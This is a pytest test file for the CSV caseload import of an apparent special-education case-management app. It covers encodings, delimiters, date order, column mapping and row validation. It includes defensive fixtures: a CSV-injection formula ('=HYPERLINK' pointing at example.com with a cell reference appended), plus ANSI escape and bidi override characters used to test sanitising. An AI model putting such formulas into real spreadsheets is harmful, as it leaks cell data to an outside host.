"""Reading caseload CSV files as Excel and district systems write them."""

import unicodedata
from datetime import date

import pytest

from iep_desk.core.clean_text import clean_text
from iep_desk.core.csv_import import (
    MAX_CELL_CHARACTERS,
    CsvFormatError,
    ImportDateError,
    ImportField,
    decide_date_order,
    decode_csv_bytes,
    guard_formula,
    guess_mapping,
    mapping_problems,
    mapping_setting_key,
    normalise_disability,
    normalise_grade,
    normalise_language,
    parse_import_date,
    read_csv,
    read_rows,
    refused_as_typed,
    split_whole_name,
    unguard_formula,
)
from iep_desk.core.problems import Problem

TODAY = date(2026, 11, 23)


def test_utf8_with_and_without_bom_and_cp1252_are_read():
    text = "First Name,Last Name\r\nJosé,Muñoz\r\n"
    for data, encoding in ((text.encode("utf-8"), "utf-8"),
                           (b"\xef\xbb\xbf" + text.encode("utf-8"), "utf-8-sig"),
                           (text.encode("cp1252"), "cp1252")):
        table = read_csv(data)
        assert table.encoding == encoding
        assert table.headers == ["First Name", "Last Name"]
        assert table.rows == [(2, ["José", "Muñoz"])]


def test_cp1252_smart_quotes_and_euro_are_decoded():
    text, encoding = decode_csv_bytes("Name\r\nO’Brien €\r\n".encode("cp1252"))
    assert encoding == "cp1252"
    assert "O’Brien €" in text


def test_semicolon_file_with_quoted_fields_and_commas_inside():
    data = b'Last Name;First Name;School\n"Smith, Jr.";Ann;"North; Main"\n'
    table = read_csv(data)
    assert table.delimiter == ";"
    assert table.rows[0][1] == ["Smith, Jr.", "Ann", "North; Main"]


def test_comma_file_with_semicolons_in_values():
    table = read_csv(b"First Name,Notes\nAnn,a;b;c\nBo,d;e\n")
    assert table.delimiter == ","
    assert table.rows[1][1] == ["Bo", "d;e"]


def test_excel_sep_line_is_obeyed_and_rows_counted_as_excel_shows():
    table = read_csv(b"sep=;\nFirst Name;Last Name\nAnn;Lee\n")
    assert table.headers == ["First Name", "Last Name"]
    assert table.rows == [(2, ["Ann", "Lee"])]


def test_row_numbers_follow_excel_with_blank_lines_and_multiline_cells():
    data = b'First Name,Notes\nAnn,"two\nlines"\n\nBo,x\n'
    table = read_csv(data)
    # header row 1, Ann row 2 (one record over two lines), blank row 3, Bo row 4
    assert [number for number, _ in table.rows] == [2, 4]


@pytest.mark.parametrize("data", [b"", b"\n\n", b"PK\x03\x04\x00\x00binary"])
def test_empty_or_binary_files_are_refused_in_plain_words(data):
    with pytest.raises(CsvFormatError) as error:
        read_csv(data)
    assert "file" in str(error.value)


def test_mapping_is_guessed_from_common_names_ignoring_case_and_punctuation():
    headers = ["Student Last Name", "student first-name", "DOB", "Date of Next Annual Plan Review",
               "Local ID", "GRADE", "School", "Primary Disability", "Last IEP Date",
               "Last Eval Date", "Reevaluation Due", "Preferred Name", "Parent/Guardian Name",
               "Parent Email", "Home Phone", "Home Language", "Bus Route"]
    assert guess_mapping(headers) == [
        "legal_last_name", "legal_first_name", "date_of_birth", "annual_review_due",
        "district_student_id", "grade", "school", "disability_category", "last_iep_meeting",
        "last_evaluation", "reevaluation_due", "preferred_name", "guardian_name",
        "guardian_email", "guardian_phone", "guardian_language", None]


def test_a_field_is_guessed_for_one_column_only():
    assert guess_mapping(["Birthdate", "DOB", "First Name"]) == [
        "date_of_birth", None, "legal_first_name"]


def test_mapping_key_depends_on_normalised_headers_only():
    assert mapping_setting_key(["Last Name", "DOB"]) == mapping_setting_key(["last name", "dob "])
    assert mapping_setting_key(["Last Name", "DOB"]) != mapping_setting_key(["DOB", "Last Name"])


def test_mapping_problems_name_duplicates_and_a_missing_name_column():
    assert mapping_problems(["legal_first_name", None]) == []
    problems = mapping_problems(["grade", "grade"])
    assert problems == [Problem.of("import_column_twice", field=ImportField("grade", as_title=True)),
                        Problem.of("import_no_name_column")]
    assert str(problems[0]) == "Two columns are both set to “Grade”; choose one."


@pytest.mark.parametrize("text, order, expected", [
    ("2015-03-14", None, date(2015, 3, 14)),
    ("2015-03-14 00:00:00", None, date(2015, 3, 14)),
    ("03/14/2015", "mdy", date(2015, 3, 14)),
    ("14/03/2015", "dmy", date(2015, 3, 14)),
    ("03/04/2015", "mdy", date(2015, 3, 4)),
    ("03/04/2015", "dmy", date(2015, 4, 3)),
    ("3/4/2015 0:00", "mdy", date(2015, 3, 4)),
    ("", "mdy", None),
])
def test_import_dates(text, order, expected):
    assert parse_import_date(text, order) == expected


@pytest.mark.parametrize("text, order, words", [
    ("13/45/2015", "mdy", "is not a date"),
    ("02/30/2015", "mdy", "is not a date"),
    ("soon", None, "is not a date"),
    ("3/4/15", "mdy", "two-digit year"),
    ("03/04/2015", None, "two ways"),
])
def test_bad_dates_say_why(text, order, words):
    with pytest.raises(ImportDateError) as error:
        parse_import_date(text, order)
    assert words in str(error.value)


def _table(csv_text: str):
    table = read_csv(csv_text.encode())
    return table, guess_mapping(table.headers)


def test_date_order_is_decided_by_a_day_above_12():
    table, mapping = _table("First Name,DOB\nA,03/04/2015\nB,25/12/2014\n")
    assert decide_date_order(table, mapping).order == "dmy"
    table, mapping = _table("First Name,DOB\nA,03/04/2015\nB,12/25/2014\n")
    assert decide_date_order(table, mapping).order == "mdy"


def test_all_ambiguous_dates_need_the_teacher():
    table, mapping = _table("First Name,DOB\nA,03/04/2015\nB,05/06/2014\n")
    order = decide_date_order(table, mapping)
    assert order.needs_question and order.order is None
    assert "03/04/2015" in order.examples


def test_iso_dates_or_equal_day_and_month_need_no_question():
    table, mapping = _table("First Name,DOB\nA,2015-03-04\nB,05/05/2014\n")
    order = decide_date_order(table, mapping)
    assert not order.needs_question and order.order is None


def test_dates_in_unmapped_columns_do_not_count():
    table, mapping = _table("First Name,Bus Date\nA,25/12/2014\n")
    assert decide_date_order(table, mapping).order is None


def test_rows_are_read_and_bad_ones_explained_with_excel_row_numbers():
    table, mapping = _table(
        "First Name,Last Name,DOB,Last IEP Date,Annual Review Due,Parent Email,Parent Name\n"
        "Ann,Lee,03/14/2015,01/10/2026,01/09/2027,ann.mom@example.org,Kim Lee\n"
        "Bo,Ray,13/45/2015,,,,\n"
        ",Gone,01/01/2015,,,,\n"
        "Cy,Day,01/01/2030,,,,\n"
        "Di,Fay,01/01/2015,06/01/2026,05/01/2026,,\n"
        "Ed,Gee,01/01/2015,,,not-an-email,Mo Gee\n"
        "Flo,Hu,01/01/2015,,,flo@example.org,\n"
    )
    rows = read_rows(table, mapping, "mdy", TODAY)
    ann = rows[0]
    assert ann.row_number == 2 and not ann.problems
    assert ann.student["date_of_birth"] == date(2015, 3, 14)
    assert ann.guardian == {"email": "ann.mom@example.org", "name": "Kim Lee"}
    assert rows[1].problems == [Problem.of("import_not_a_date", field=ImportField("date_of_birth"),
                                           value="13/45/2015")]
    assert rows[2].problems == [Problem.of("import_first_name_empty")]
    assert rows[3].problems == [refused_as_typed(Problem("birth_in_future"))]
    assert rows[4].problems == [refused_as_typed(Problem("review_due_before_last_meeting"))]
    assert rows[5].problems == [refused_as_typed(Problem.of("not_an_email", value="not-an-email"))]
    assert rows[6].problems == [Problem.of("import_guardian_without_name")]
    # The command line lists them in the English it always had.
    assert [str(row.problems[0]) for row in rows[1:5]] == [
        "date of birth 13/45/2015 is not a date", "the legal first name is empty",
        "the date of birth cannot be in the future",
        "the annual review cannot be due before the last IEP meeting"]


def test_whole_name_column_is_split_and_explicit_names_win():
    table, mapping = _table('Student Name,Grade\n"Nguyen, Thi Anh",03\nMaria Lopez,KG\n')
    rows = read_rows(table, mapping, None, TODAY)
    assert rows[0].student["legal_first_name"] == "Thi Anh"
    assert rows[0].student["legal_last_name"] == "Nguyen"
    assert rows[1].student["legal_last_name"] == "Lopez"
    assert rows[0].student["grade"] == "3" and rows[1].student["grade"] == "K"
    assert split_whole_name("Cher") == ("Cher", "")


@pytest.mark.parametrize("raw, expected", [
    ("01", "1"), ("Grade 3", "3"), ("3rd", "3"), ("KG", "K"), ("PK", "Pre-K"), ("12", "12"),
    ("Ungraded", "Ungraded")])
def test_grades(raw, expected):
    assert normalise_grade(raw) == expected


def test_disability_codes_and_unknown_words():
    assert normalise_disability("SLD") == ("specific_learning_disability", None)
    assert normalise_disability("Other Health Impairment") == ("other_health_impairment", None)
    code, note = normalise_disability("Dyslexia")
    assert code == "other"
    assert note == Problem.of("import_disability_saved_as_other", value="Dyslexia")


def test_languages_by_name_or_code():
    assert normalise_language("Spanish") == "es"
    assert normalise_language("es-MX") == "es"
    assert normalise_language("Vietnamese") == "vi"
    assert normalise_language("Klingonese") is None


def test_unknown_language_rejects_the_row():
    table, mapping = _table("First Name,Parent Name,Home Language\nAnn,Kim,Elvish-ish\n")
    rows = read_rows(table, mapping, None, TODAY)
    assert rows[0].problems == [Problem.of("import_unknown_language", value="Elvish-ish")]


def test_a_date_written_the_other_way_from_the_rest_of_the_file_says_so():
    table, mapping = _table("First Name,DOB\nA,25/12/2014\nB,26/12/2014\nC,12/27/2014\n")
    order = decide_date_order(table, mapping)
    assert order.order == "dmy" and order.mixed
    rows = read_rows(table, mapping, order.order, TODAY)
    assert rows[2].problems == [Problem.of("import_not_a_date_day_first",
                                           field=ImportField("date_of_birth"), value="12/27/2014")]


def test_values_beyond_the_named_columns_are_reported_not_dropped():
    table, mapping = _table("First Name,Last Name\nAnn,Lee,stray note\n")
    rows = read_rows(table, mapping, None, TODAY)
    assert not rows[0].problems
    assert rows[0].notes == [Problem.of("import_value_beyond_columns", values="stray note")]
    table, mapping = _table("First Name,Last Name\nAnn,Lee,x,y\n")
    assert read_rows(table, mapping, None, TODAY)[0].notes == [
        Problem.of("import_values_beyond_columns", count=2, values="x, y")]


# -- issue 13: encodings decided with evidence ----------------------------------------------

def test_utf16_with_a_byte_order_mark_is_read_as_text():
    text = "First Name,Last Name\r\nJosé,Muñoz\r\nÁnh,Nguyễn\r\n"
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        bom = {"utf-16": b"", "utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[encoding]
        table = read_csv(bom + text.encode(encoding))
        assert table.encoding.startswith("utf-16")
        assert table.rows == [(2, ["José", "Muñoz"]), (3, ["Ánh", "Nguyễn"])]


def test_utf16_without_a_byte_order_mark_is_read_too():
    table = read_csv("First Name\r\nJosé\r\n".encode("utf-16-le"))
    assert table.rows == [(2, ["José"])]


@pytest.mark.parametrize("data, words", [
    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "Excel workbook (.xlsx)"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00", "older Excel workbook (.xls)"),
    (b"%PDF-1.7\n\x00\x01", "PDF"),
])
def test_files_that_are_not_text_are_called_what_they_are(data, words):
    with pytest.raises(CsvFormatError) as error:
        read_csv(data)
    assert words in str(error.value)
    assert "UTF-16" not in str(error.value)


def test_a_utf8_file_with_one_windows_1252_row_is_stopped_at_that_row():
    good = "First Name,Last Name\r\nJosé,Muñoz\r\nÁnh,Nguyễn\r\n".encode()
    data = good + "Zoë,Dupré\r\n".encode("cp1252") + "Łucja,Żak\r\n".encode()
    with pytest.raises(CsvFormatError) as error:
        read_csv(data)
    message = str(error.value)
    assert "line 4" in message and "UTF-8" in message
    assert "Nothing was imported" in message
    with pytest.raises(CsvFormatError):
        decode_csv_bytes(data)


def test_windows_1252_only_when_no_utf8_sequence_is_in_the_file():
    text, encoding = decode_csv_bytes("Name\r\nZoë Dupré\r\n".encode("cp1252"))
    assert (text, encoding) == ("Name\r\nZoë Dupré\r\n", "cp1252")
    text, encoding = decode_csv_bytes("Name\r\nZoë Dupré\r\n".encode())
    assert encoding == "utf-8" and "Zoë Dupré" in text


def test_a_bom_file_with_a_broken_row_is_stopped_too():
    data = b"\xef\xbb\xbf" + "Name\nJosé\n".encode() + "Zoë\n".encode("cp1252")
    with pytest.raises(CsvFormatError) as error:
        read_csv(data)
    assert "line 3" in str(error.value).lower()


# -- issue 13: one Unicode form, no control characters ---------------------------------------

def test_names_are_read_in_one_unicode_form():
    decomposed = "Jose\u0301,Mun\u0303oz\r\n"
    table = read_csv(("First Name,Last Name\r\n" + decomposed).encode("utf-8"))
    assert table.rows == [(2, ["José", "Muñoz"])]  # composed: NFC
    assert all(unicodedata.is_normalized("NFC", cell) for cell in table.rows[0][1])


def test_control_and_bidi_override_characters_are_removed():
    data = ("First Name,Last Name,Strengths\r\n"
            "A\x1b[31mnn\x07,\u202eeeL\u202c,\"line one\r\nline\ttwo\x00\"\r\n"
            "\u2067\u0645\u0631\u064a\u0645\u2069,\u2066Lee,x\x85y\r\n").encode("utf-8")
    table = read_csv(data)
    assert table.rows[0][1] == ["A[31mnn", "eeL", "line one\nline\ttwo"]
    # A balanced isolate stays (it lays out a right-to-left name); an unbalanced one goes.
    assert table.rows[1][1] == ["\u2067\u0645\u0631\u064a\u0645\u2069", "Lee", "xy"]
    mapping = guess_mapping(table.headers)
    rows = read_rows(table, mapping, None, TODAY)
    assert rows[0].student["strengths"] == "line one\nline\ttwo"  # may hold several lines


def test_single_line_fields_get_no_line_breaks_or_tabs():
    data = b'First Name,School,Parent Name\r\nAnn,"North\r\nCampus","Kim\tLee"\r\n'
    table = read_csv(data)
    rows = read_rows(table, guess_mapping(table.headers), None, TODAY)
    assert rows[0].student["school"] == "North Campus"
    assert rows[0].guardian["name"] == "Kim Lee"


def test_clean_text_rules():
    assert clean_text("a\x00b\x1fc\x7fd\x9fe") == "abcde"
    assert clean_text("x\r\ny\rz", multiline=True) == "x\ny\nz"
    assert clean_text("x\r\ny\tz") == "x y z"
    assert clean_text("\u202dabc\u202c \u202aq\u202b") == "abc q"
    assert clean_text("\u2066a\u2069 \u2068b") == "\u2066a\u2069 b"
    assert clean_text("\u2069a\u2066") == "a"
    assert clean_text("\ufeffAnn") == "Ann"
    assert clean_text("Ánh\u200f") == "Ánh\u200f"  # a right-to-left mark is not a control


# -- issue 13: an unclosed quote --------------------------------------------------------------

def test_an_unclosed_quote_is_refused_with_the_line_where_it_opened():
    data = b'First Name,Last Name\nAnn,Lee\n"Bo,Ray\nCy,Day\nDi,Fay\n'
    with pytest.raises(CsvFormatError) as error:
        read_csv(data)
    assert "Line 3" in str(error.value) and "quotation mark" in str(error.value)


def test_an_unclosed_quote_that_a_later_quote_seems_to_close_is_refused_too():
    data = b'First Name,Last Name\nAnn,Lee\nBo,"Ray\nCy,"Day"\nDi,Fay\n'
    with pytest.raises(CsvFormatError) as error:
        read_csv(data)
    assert "line 3" in str(error.value).lower()


def test_a_closed_multiline_cell_and_a_stray_quote_inside_a_line_are_fine():
    table = read_csv(b'First Name,Notes\nAnn,"two\nlines ""quoted"""\nBo,5" tall\n')
    assert table.rows == [(2, ["Ann", 'two\nlines "quoted"']), (3, ["Bo", '5" tall'])]


# -- issue 13: long texts and the spreadsheet's formula guard --------------------------------

def test_a_300_kb_cell_is_read():
    note = ("A long note. " * 25_000)[:300_000]
    table = read_csv(f'First Name,Strengths\nAnn,"{note}"\n'.encode())
    assert table.rows[0][1][1] == note


def test_an_absurdly_long_cell_is_refused_with_a_message():
    huge = "x" * (MAX_CELL_CHARACTERS + 1)
    with pytest.raises(CsvFormatError) as error:
        read_csv(f'First Name,Strengths\nAnn,"{huge}"\n'.encode())
    assert "Row 2" in str(error.value) and "too long" in str(error.value)


@pytest.mark.parametrize("stored", [
    "=HYPERLINK(\"http://example.com/?\"&A1)", "+1 555 0100", "-Ana", "@SUM(A1)", "\tTabbed",
    "'-already quoted", "''=twice", "'plain", "O'Brien", "plain", "", "-", "'",
])
def test_formula_guard_round_trips_exactly(stored):
    guarded = guard_formula(stored)
    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unguard_formula(guarded) == stored


def test_a_guarded_cell_is_read_without_its_quote():
    table = read_csv(b"First Name,Parent Phone\r\n'-Ana,'+1 555 0100\r\n")
    assert table.rows == [(2, ["-Ana", "+1 555 0100"])]


@pytest.mark.parametrize("text, code", [
    ("Hmong", "hmn"), ("Nepali", "ne"), ("Dari", "fa_AF"), ("Amharic", "am"),
    ("አማርኛ", "am"), ("Español", "es"), ("العربية", "ar"), ("Tiếng Việt", "vi"),
    ("zh_Hant", "zh_Hant"), ("fa-AF", "fa_AF"), ("Traditional Chinese", "zh_Hant"),
    ("Mandarin", "zh"), ("Cantonese", "yue"), ("Haitian Creole", "ht"), ("Somali", "so"),
    ("pt-BR", "pt"), ("Portuguese (Brazil)", "pt"),
])
def test_languages_resolve_against_the_apps_list(text, code):
    from iep_desk.core.languages import find_language

    assert normalise_language(text) == code
    assert find_language(code) is not None, "a code the family panel shows by name"


def test_a_name_longer_than_a_name_can_be_refuses_its_row():
    """The limit the window holds a typed name to (core.validation.LONGEST_NAME), said for
    the column it is in; the row's name in the preview stays short."""
    table = read_csv((
        "First Name,Last Name,Preferred Name,Parent Name\n"
        f"Ann,{'L' * 200_000},,\n"
        f"Bo,Ray,{'P' * 101},{'G' * 150}\n"
        f"{'F' * 100},Day,,\n").encode())
    rows = read_rows(table, guess_mapping(table.headers), None, TODAY)
    def too_long(field: str, length: int) -> Problem:
        return Problem.of("import_name_too_long", field=ImportField(field), length=length,
                          most=100)

    assert rows[0].problems == [too_long("legal_last_name", 200_000)]
    assert rows[1].problems == [too_long("preferred_name", 101), too_long("guardian_name", 150)]
    assert str(rows[1].problems[1]) == (
        "the parent/guardian name has 150 characters; a name may have up to 100")
    assert rows[2].problems == []  # 100 is allowed
    assert rows[0].name == "Ann " + "L" * 100 + "…"


def test_a_row_with_a_student_older_than_26_is_refused_by_the_windows_rule():
    # The same rule as a date of birth typed in the window (core.validation): 1/1/1900 would
    # make a 126-year-old student.
    table, mapping = _table("First Name,DOB\nOld,01/01/1900\nYoung,01/01/2015\n")
    old, young = read_rows(table, mapping, "mdy", TODAY)
    assert old.problems == [refused_as_typed(Problem.of(
        "birth_too_long_ago", born=date(1900, 1, 1), age=126, most=26))]
    assert str(old.problems[0]).startswith(
        "with a date of birth of 1900-01-01, the student would be 126 today")
    assert not young.problems
